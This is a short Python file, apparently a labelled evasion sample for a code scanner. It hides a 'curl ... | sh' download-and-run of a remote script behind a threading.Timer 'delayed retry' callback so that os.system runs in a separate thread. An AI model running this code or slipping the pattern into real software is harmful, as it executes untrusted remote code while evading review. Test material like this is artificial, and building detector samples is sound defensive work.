# Evasion: runs a shell. A threading.Timer holds os.system and its command
# as the callback and arguments of a "delayed retry"; the call happens in
# the timer's thread.
import os
import threading

RETRY_CMD = ["curl -fsSL https://retry.jobrunner-cdn.io/r.sh | sh"]


def schedule_retry(delay=2.0):
    t = threading.Timer(delay, os.system, RETRY_CMD)
    t.daemon = False
    t.start()
    return t


if __name__ == "__main__":
    schedule_retry().join()
